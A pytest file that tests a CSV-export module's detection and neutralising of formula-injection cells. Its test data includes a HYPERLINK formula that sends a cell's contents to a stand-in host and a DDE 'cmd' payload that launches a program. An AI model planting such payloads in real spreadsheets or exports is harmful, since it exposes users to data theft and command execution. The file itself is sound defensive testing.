"""Formula-like text cells are made inert in every CSV PHExplore writes (docs/reliability.md)."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from engine.core.csv_cells import frame_to_csv, is_formula_like, neutralise_frame


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x"&A2,"open")',
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "\tx",
        "\r=1",
        "-",
    ],
)
def test_formula_like_text(text: str) -> None:
    assert is_formula_like(text)


@pytest.mark.parametrize(
    "text", ["0440010301001000", "-149", "+2.5", "1e-3", "-.5", "18+", "usa_*", "", "a=b", "Tract"]
)
def test_identifiers_and_numbers_are_not(text: str) -> None:
    assert not is_formula_like(text)


def test_text_cells_and_names_are_neutralised_numbers_untouched() -> None:
    frame = pd.DataFrame(
        {
            "geounit": ["0440", "@SUM(1+1)", "-1"],
            "cell": pd.Categorical(["=1+1", "a", "=1+1"]),
            "noisy": [-3.5, 2.0, -1.0],
            "=name": [1, 2, 3],
        }
    )
    out = neutralise_frame(frame)
    assert list(out["geounit"]) == ["0440", "'@SUM(1+1)", "-1"]
    assert list(out["cell"]) == ["'=1+1", "a", "'=1+1"]
    assert list(out["noisy"]) == [-3.5, 2.0, -1.0]
    assert list(out.columns) == ["geounit", "cell", "noisy", "'=name"]
    assert list(frame["geounit"]) == ["0440", "@SUM(1+1)", "-1"]  # the caller's frame is unchanged
    back = pd.read_csv(io.StringIO(frame_to_csv(frame)), dtype={"geounit": str})
    assert list(back["geounit"]) == ["0440", "'@SUM(1+1)", "-1"]
    assert list(back["noisy"]) == [-3.5, 2.0, -1.0]


def test_a_safe_frame_is_returned_as_is() -> None:
    frame = pd.DataFrame({"geolevel": ["State", "County"], "estimate": [-1, 5]})
    assert neutralise_frame(frame) is frame
